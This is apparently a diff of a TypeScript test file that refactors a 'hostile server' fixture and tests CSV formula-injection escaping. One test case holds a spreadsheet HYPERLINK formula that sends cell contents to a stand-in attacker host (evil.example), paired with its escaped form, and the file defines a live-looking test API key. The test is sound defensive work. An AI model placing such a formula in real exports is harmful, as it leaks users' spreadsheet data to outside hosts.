@@ -5,23 +5,14 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { csvField } from '../../src/io/format.js';
 import { csvFormulaSafe } from '../../src/io/safe.js';
-import { cli, type CliOptions, tempDir } from '../helpers/cli.js';
-import { HostileServer, json, page } from './server.js';
+import { tempDir } from '../helpers/cli.js';
+import { json, page, useHostileServer } from './server.js';
 
 const KEY = 'vk_live_9f2c4e6a8b1d3f5a7c9e';
-let server: HostileServer;
-beforeAll(async () => {
-  server = new HostileServer();
-  await server.listen();
-});
-afterAll(() => server.close());
-beforeEach(() => server.reset());
-
-const run = (argv: string[], opts: CliOptions = {}) =>
-  cli(argv, { key: KEY, ...opts, env: { VOICECTL_BASE_URL: server.url, ...opts.env } });
+const { server, run } = useHostileServer(KEY);
 
 const CASES: [string, string][] = [
   ['=HYPERLINK("https://evil.example/?"&A1,"click")', `'=HYPERLINK("https://evil.example/?"&A1,"click")`],
